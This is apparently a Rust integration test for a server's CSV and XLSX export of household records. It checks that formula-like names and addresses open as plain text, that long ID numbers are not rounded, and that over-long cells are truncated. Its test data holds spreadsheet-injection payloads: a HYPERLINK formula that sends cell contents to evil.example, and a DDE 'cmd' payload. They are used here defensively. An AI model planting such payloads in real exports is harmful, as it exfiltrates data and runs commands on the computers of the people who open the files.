//! Safe exports (issue 11), over HTTP on SQLite and PostgreSQL: a household head named
//! `=HYPERLINK(…)` and other formula-like text is exported as text that no spreadsheet runs, ID
//! numbers, phones and codes open as text (no 5.3E+17), a maximal record exports whole, and a
//! record stored before the limits with a 40,000-character name does not fail the export.
use std::sync::Arc;

use calamine::{Data, Reader, Xlsx};
use shouwang_domain::model::{IdType, Measure, MeasureType, Relation, Visit};
use shouwang_domain::office::export::MAX_CELL_CHARS;
use shouwang_domain::sync::wire::*;
use shouwang_domain::Household;
use shouwang_server::state::FixedClock;

use crate::kit::{change, household, on_both, push, NOW, TOWNSHIP, V1};
use crate::support::TestServer;

on_both!(
    formula_like_text_and_long_numbers_open_as_text_in_csv,
    the_xlsx_holds_text_as_text_and_no_formula,
    a_maximal_record_exports_whole,
    an_over_long_stored_cell_does_not_fail_the_export,
);

/// What a spreadsheet program makes of a CSV cell when it opens the file (Excel, WPS): text
/// beginning with `=`, `+`, `-` or `@` is a formula; what reads as a number becomes one (an
/// 18-digit ID number rounded to 5.3E+17); a cell beginning with `'` or a tab stays text.
#[derive(Debug, PartialEq)]
enum Opened {
    Formula,
    Number,
    Text(String),
}

fn opened(cell: &str) -> Opened {
    if cell.starts_with(['=', '+', '-', '@']) {
        Opened::Formula
    } else if cell.starts_with(['\'', '\t']) {
        Opened::Text(cell[1..].to_owned())
    } else if cell.trim().parse::<f64>().is_ok() {
        Opened::Number
    } else {
        Opened::Text(cell.to_owned())
    }
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
];

fn people(s: &TestServer) -> (String, String) {
    s.user("li", Role::Worker, &[V1]);
    s.user("rev", Role::Reviewer, &[TOWNSHIP]);
    (s.login("li", "phone"), s.login("rev", "office"))
}

/// Households whose head is named after a formula, at an address that is one.
fn hostile() -> Vec<Household> {
    FORMULAS
        .iter()
        .enumerate()
        .map(|(i, formula)| {
            let mut h = household(&format!("h{i}"), V1);
            h.household_number = format!("0{:015}", i + 1);
            h.members[0].name = (*formula).to_owned();
            h.address = (*formula).to_owned();
            h
        })
        .collect()
}

/// The export's rows, split as a spreadsheet program splits the file.
fn csv_rows(body: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let body = body.strip_prefix('\u{feff}').expect("a BOM for Excel");
    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
    let headers = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (headers, rows)
}

fn formula_like_text_and_long_numbers_open_as_text_in_csv(s: &TestServer, _: &Arc<FixedClock>) {
    let (worker, office) = people(s);
    let households = hostile();
    let changes = households.iter().map(|h| change(&h.id.0, NOW, h)).collect();
    assert!(push(s, &worker, changes).iter().all(|r| r.error.is_none()));

    let reply = s.get_as("/api/v1/office/export.csv?sheet=households", Some(&office));
    assert_eq!(reply.status, 200, "{}", reply.body);
    let (headers, rows) = csv_rows(&reply.body);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(rows.len(), households.len());
    for (row, h) in rows.iter().zip(&households) {
        let formula = &h.members[0].name;
        for name in ["户主姓名", "家庭住址"] {
            let cell = &row[col(name)];
            assert_eq!(
                opened(cell),
                Opened::Text(formula.clone()),
                "{name}: {cell:?}"
            );
        }
        for (name, value) in [
            ("户主证件号码", &h.members[0].id_number),
            ("联系电话", &h.phone),
            ("所在地区代码", &h.area.code),
            ("户编号", &h.household_number),
        ] {
            assert!(value.len() >= 11, "{name} {value}");
            let cell = &row[col(name)];
            assert_eq!(
                opened(cell),
                Opened::Text(value.clone()),
                "{name}: {cell:?}"
            );
        }
        // Numbers the export makes stay numbers.
        assert_eq!(opened(&row[col("家庭人口数")]), Opened::Number);
        assert_eq!(opened(&row[col("工资性收入")]), Opened::Number);
    }
    let reply = s.get_as("/api/v1/office/export.csv?sheet=members", Some(&office));
    let (headers, rows) = csv_rows(&reply.body);
    let id = headers.iter().position(|h| h == "证件号码").unwrap();
    let name = headers.iter().position(|h| h == "姓名").unwrap();
    for row in &rows {
        assert!(
            matches!(opened(&row[id]), Opened::Text(t) if t.len() == 18),
            "{row:?}"
        );
        assert!(matches!(opened(&row[name]), Opened::Text(_)), "{row:?}");
    }
}

/// The XLSX export as `token`, opened.
fn xlsx(s: &TestServer, token: &str) -> Xlsx<std::io::Cursor<Vec<u8>>> {
    let agent = ureq::Agent::new_with_config(ureq::Agent::config_builder().proxy(None).build());
    let mut response = agent
        .get(format!("{}/api/v1/office/export.xlsx", s.base()))
        .header("Authorization", &format!("Bearer {token}"))
        .call()
        .expect("the export answers 200");
    let bytes = response
        .body_mut()
        .with_config()
        .limit(64 * 1024 * 1024)
        .read_to_vec()
        .unwrap();
    calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap()
}

fn the_xlsx_holds_text_as_text_and_no_formula(s: &TestServer, _: &Arc<FixedClock>) {
    let (worker, office) = people(s);
    let households = hostile();
    let changes = households.iter().map(|h| change(&h.id.0, NOW, h)).collect();
    push(s, &worker, changes);
    let mut book = xlsx(s, &office);
    for sheet in ["户", "成员"] {
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} holds a formula"
        );
    }
    let sheet = book.worksheet_range("户").unwrap();
    let header = |name: &str| {
        (0..sheet.width() as u32)
            .find(|c| sheet.get_value((0, *c)) == Some(&Data::String(name.into())))
            .unwrap()
    };
    for (r, h) in households.iter().enumerate() {
        let r = r as u32 + 1;
        let text = |s: &str| Some(Data::String(s.to_owned()));
        assert_eq!(
            sheet.get_value((r, header("户主姓名"))).cloned(),
            text(&h.members[0].name)
        );
        assert_eq!(
            sheet.get_value((r, header("户主证件号码"))).cloned(),
            text(&h.members[0].id_number),
            "an ID number is a text cell"
        );
        assert_eq!(
            sheet.get_value((r, header("联系电话"))).cloned(),
            text(&h.phone)
        );
    }
}

/// A household at every limit: each free-text field at its longest, each list at its most.
fn maximal() -> Household {
    let mut h = household("x".repeat(64).as_str(), V1);
    let long = |n: usize| "字".repeat(n);
    h.household_number = "1".repeat(32);
    h.area.name = long(100);
    h.address = long(200);
    h.resettlement_site = long(100);
    h.monitoring.helper = long(50);
    h.monitoring.override_reason = long(500);
    let template = h.members[3].clone();
    for i in h.members.len()..30 {
        h.members.push(shouwang_domain::model::Member {
            id: format!("{i:0>64}"),
            id_type: IdType::Other,
            id_number: format!("P{i:0>29}"),
            relation: Relation::Other,
            ..template.clone()
        });
    }
    for m in &mut h.members {
        m.name = long(50);
    }
    h.members[1].work_place = long(100);
    h.measures = (0..100)
        .map(|i| Measure {
            id: format!("{i:0>64}"),
            kind: MeasureType::Employment,
            content: long(500),
            start: "2026-11-21".parse().unwrap(),
            end: None,
            amount: None,
            implemented: false,
        })
        .collect();
    let visit = h.visits[0].clone();
    h.visits = (0..500)
        .map(|i| Visit {
            id: format!("{i:0>64}"),
            visitor: long(50),
            notes: long(2000),
            ..visit.clone()
        })
        .collect();
    h
}

fn a_maximal_record_exports_whole(s: &TestServer, _: &Arc<FixedClock>) {
    let (worker, office) = people(s);
    let h = maximal();
    let stored = push(s, &worker, vec![change("max", NOW, &h)]);
    assert_eq!(
        stored[0].status,
        PushStatus::Stored,
        "{:?}",
        stored[0].error
    );
    let mut book = xlsx(s, &office);
    let sheet = book.worksheet_range("户").unwrap();
    let find = |name: &str| {
        (0..sheet.width() as u32)
            .find(|c| sheet.get_value((0, *c)) == Some(&Data::String(name.into())))
            .unwrap()
    };
    let cell = |name: &str| sheet.get_value((1, find(name))).cloned();
    assert_eq!(cell("家庭住址"), Some(Data::String(h.address.clone())));
    assert_eq!(
        cell("户主姓名"),
        Some(Data::String(h.members[0].name.clone()))
    );
    assert_eq!(
        cell("户编号"),
        Some(Data::String(h.household_number.clone()))
    );
    let members = book.worksheet_range("成员").unwrap();
    assert_eq!(members.height(), 31);
    let csv = s.get_as("/api/v1/office/export.csv?sheet=members", Some(&office));
    assert_eq!(csv.status, 200);
    assert_eq!(csv_rows(&csv.body).1.len(), 30);
}

fn an_over_long_stored_cell_does_not_fail_the_export(s: &TestServer, _: &Arc<FixedClock>) {
    let (worker, office) = people(s);
    push(s, &worker, vec![change("c1", NOW, &household("h1", V1))]);
    // Stored before there were limits: a head whose name is 40,000 characters.
    let mut old = household("h1", V1);
    old.members[0].name = "王".repeat(40_000);
    s.block_on(
        sqlx::query("UPDATE households SET body = $1")
            .bind(serde_json::to_string(&old).unwrap())
            .execute(s.store.pool()),
    )
    .unwrap();
    let mut book = xlsx(s, &office);
    let sheet = book.worksheet_range("户").unwrap();
    let name = (0..sheet.width() as u32)
        .find(|c| sheet.get_value((0, *c)) == Some(&Data::String("户主姓名".into())))
        .unwrap();
    let Some(Data::String(cut)) = sheet.get_value((1, name)).cloned() else {
        panic!("the name is a text cell");
    };
    assert_eq!(cut.chars().count(), MAX_CELL_CHARS);
    assert!(
        cut.starts_with("王王王") && cut.contains("已截断"),
        "the cut is marked"
    );
    let csv = s.get_as("/api/v1/office/export.csv?sheet=households", Some(&office));
    assert_eq!(csv.status, 200);
    let (headers, rows) = csv_rows(&csv.body);
    let col = headers.iter().position(|h| h == "户主姓名").unwrap();
    assert_eq!(rows[0][col].chars().count(), MAX_CELL_CHARS);
}
